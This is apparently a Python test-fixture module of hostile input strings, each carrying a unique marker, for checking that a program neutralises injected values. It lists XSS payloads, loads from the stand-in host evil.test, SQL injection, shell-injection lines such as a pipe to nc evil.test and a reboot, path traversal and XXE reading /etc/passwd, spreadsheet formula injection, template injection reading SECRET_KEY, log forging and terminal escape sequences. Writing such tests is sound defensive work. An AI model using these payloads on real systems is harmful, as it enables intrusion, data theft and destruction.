"""What an evil program puts into a field: every text holds its own mark (`e07_`), so that one sees where it came out."""

from typing import Any

MARK = "§"  # where a text has its mark
FORGED = "2026-11-25 10:00:00,000 ERROR tunnel.session forged"

# What becomes an element or an attribute has `data-evil`, a script that runs calls `owned`. `evil.test` is nobody's (RFC
# 6761): a browser that asks for it was made to.
_MARKUP = [
    "§<img data-evil src=x onerror=owned()>",
    '§"><script data-evil>owned()</script>',
    "§'><svg data-evil onload=owned()>",
    "§</script><script data-evil>owned()</script>",
    "§</textarea><iframe data-evil srcdoc='<script>parent.owned()</script>'>",
    "§</title><body data-evil onload=owned()>",
    "§</style><link data-evil rel=stylesheet href=//evil.test/§>",
    "§<!--><img data-evil src=//evil.test/§>-->",
    "§</template><details data-evil open ontoggle=owned()>",
    "§<a data-evil href=javascript:owned()>click</a>",
    "§</form><form data-evil action=//evil.test/><input name=password>",
    "§<meta data-evil http-equiv=refresh content='0;url=//evil.test/§'>",
    "§<base data-evil href=//evil.test/>",
    "§<object data-evil data=//evil.test/§>",
    "§<math><mtext data-evil><mglyph><style><img data-evil src=x onerror=owned()>",
    "§<scr\0ipt data-evil>owned()</scr\0ipt>",
    "§<style data-evil>@import '//evil.test/§'</style>",
    "§&lt;img data-evil src=x onerror=owned()&gt;",
    "§&#60;script data-evil&#62;owned()&#60;/script&#62;",
    "§%3Cscript data-evil%3Eowned()%3C/script%3E",
    "§\\u003cscript data-evil\\u003eowned()\\u003c/script\\u003e",
    "§\\x3cimg data-evil src=x onerror=owned()\\x3e",
    "§＜script data-evil＞owned()＜/script＞",
    "§<b data-evil style=position:fixed;inset:0;background:url(//evil.test/§)>",
    "§<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
]
_ATTRIBUTES = [
    '§" autofocus onfocus=owned() data-evil="',
    "§' onmouseover='owned()' data-evil='",
    "§` onclick=owned() data-evil `",
    "§ style=animation-name:x onanimationstart=owned() data-evil",
    '§"/data-evil/onpointerenter=owned()//',
]
_ADDRESSES = [
    "javascript:owned('§')",
    "data:text/html,§<script>owned()</script>",
    "//evil.test/§",
    "vbscript:§owned()",
]
_TEMPLATES = [
    "{{ §|safe }}{% load i18n %}{{ settings.SECRET_KEY }}",
    "{% include '§' %}{% debug %}",
    "{{constructor.constructor('owned()')()}}§",
    "${§.constructor.constructor('owned()')()}",
    "<%= § %>#{§}[[§]]*{§}",
]
_FORMATS = ["%(§)s %(name)s %s %d %n", "100 %§ %", "%(§", "{§} {name} {0.__class__}", "{§!r:>99999}{"]
_TERMINAL = [
    "\x1b[2J\x1b[H§",
    "\x1b]0;§\x07",
    "\x1b]52;c;§\x07",
    "\x1b]8;;javascript:owned()\x07§\x1b]8;;\x07",
    "\x9b31m§",
    "\x1bP$q§\x1b\\",
    "\x07\x08\x08§\x7f",
    "\x1b[21t§\x1b[6n",
    "\x1b[?1049h§",
]
_LINES = [
    "§\r\nX-Evil: yes\r\n\r\nHTTP/1.1 200 OK",
    f"§\n{FORGED}",
    "\r§",
    f"§\u2028{FORGED}\u2029",
    f"§\x85{FORGED}\x0b\x0c\x1c\x1d\x1e",
    "§\t\t|",
    "§\n    | forged",
    '§"},{"level":"ERROR","event":"forged',
]
_SHEETS = [
    "=§+cmd|' /C calc'!A0",
    "+§",
    "-§+1",
    "@SUM(§)",
    "\t=§",
    "＝§",
    '=HYPERLINK("//evil.test/§")',
    '"=§',
]
_UNSEEN = [
    "\u202e§gnp.exe\u202c",
    "\u2066§\u2069\u200f",
    "\u200b§\u200d\ufeff\u2060",
    "\u00ad§\u034f\u180e",
    "\U000e0041§\U000e007f",
    "\u3164§\uffa0",
    "\0§\0",
    "§" + "\u0301" * 150,
]
_NAMES = ["__proto__.§", "constructor[§]", "§.toString", "__class__§", "hasOwnProperty(§)"]
_PATHS = [
    "../../../../etc/§",
    "..\\..\\§",
    "/etc/passwd#§",
    "file:///§",
    "C:\\§:stream",
    "%2e%2e%2f§%00",
    "~/§",
]
_QUERIES = ["§'; DROP TABLE servers;--", "§' OR '1'='1", "§\\'; --", "§%' ESCAPE '!", "§$1 ? :x"]
_SHELL = ["$(touch §)", "`§`; reboot", "-§ --help", "§|nc evil.test 1"]
_JSON = ['{"§":{"type":"EVENT"}}', '§","status":"suspended","x":"', "§" + "[" * 100, "null§"]
_LONG = ["§" + "W" * 15_000, "§ " + "w " * 7_000, "§" + "𝒳" * 1_500, "§" + "\n" * 7_000]

_ALL = [
    *_MARKUP,
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_FORMATS,
    *_TERMINAL,
    *_LINES,
    *_SHEETS,
    *_UNSEEN,
    *_NAMES,
    *_PATHS,
    *_QUERIES,
    *_SHELL,
    *_JSON,
    *_LONG,
]


def mark(number: int) -> str:
    """The word in the text of this number, and in no other."""
    return f"e{number:02}_"


TEXTS = [text.replace(MARK, mark(number)) for number, text in enumerate(_ALL)]

# Values where a number is due; JSON knows all of them.
NUMBERS: list[Any] = [
    -1,
    0,
    256,
    2**31,
    -(2**31) - 1,
    2**53 + 1,
    2**63,
    -(2**64),
    10**400,
    10**4000,
    1e308,
    -1e308,
    5e-324,
    True,
    None,
    "12",
    "NaN",
    [1],
    {"valueOf": 1},
]

# Names that mean something to the objects of a language.
TRAPS: dict[str, Any] = {
    "__proto__": {"polluted": "yes"},
    "constructor": {"prototype": {"polluted": "yes"}},
    "toString": 1,
    "length": -1,
    "__class__": {"__init__": 1},
    "then": "x",
    "": "",
}

_NESTED = "[" * 40 + "]" * 40
# Values that are no JSON of the protocol: a message with one of them is dropped as a whole.
NO_JSON = [
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "[-1E+400]",
    '"\\ud800"',
    '{"\\udfff":1}',
    "9" * 5000,
    _NESTED,
    '"\x1b[2J"',
    '"\n"',
    "0x10",
    "'x'",
]
